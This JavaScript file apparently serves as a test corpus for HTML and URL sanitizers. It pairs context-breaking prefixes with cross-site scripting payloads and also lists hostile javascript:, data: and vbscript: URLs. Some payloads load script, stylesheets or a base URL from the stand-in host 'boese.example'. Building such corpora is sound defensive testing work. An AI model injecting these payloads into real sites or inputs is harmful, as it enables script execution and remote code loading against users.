/** Ways out of the place in which a text stands. */
const exits = ['', '">', "'>", '">\'>', '</title>', '</textarea>', '</script>', '</script >', '</SCRIPT/x>', '</style>', '-->', '--!>', ']]>', '</p></div>', '<!--', '\\"', "\\'", '${', '{{', '\u2028', '&quot;>', '&#34;>', '&lt;']

/** What somebody would like to run there. */
const acts = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//boese.example/x.js></script>',
  '<script type="application/ld+json">{}</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">hier</a>',
  '<a href="java&#9;script:alert(1)">hier</a>',
  '<form action=javascript:alert(1)><button>los</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//boese.example/>',
  '<link rel=stylesheet href=//boese.example/x.css>',
  '<style>@import "//boese.example/x.css"</style>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" style="background:url(//boese.example/)"',
  '`-alert(1)-`',
]

/** Where a text becomes an address. */
export const hostileAddresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'javascript://muster.example/%0aalert(1)', 'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)', 'https://muster.example/" onmouseover="alert(1)', "https://muster.example/' onmouseover='alert(1)", 'https://muster.example/><script>alert(1)</script>', '//boese.example/', 'blob:https://muster.example/1',
]

/** Texts that would run, or open a way, where somebody writes them into a page as they are: every exit with every act. */
export const hostileTexts = [...new Set([...exits.flatMap(exit => acts.map(act => exit + act)), ...hostileAddresses, '\0<script>alert(1)</script>', '＜script＞alert(1)＜/script＞', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'])]
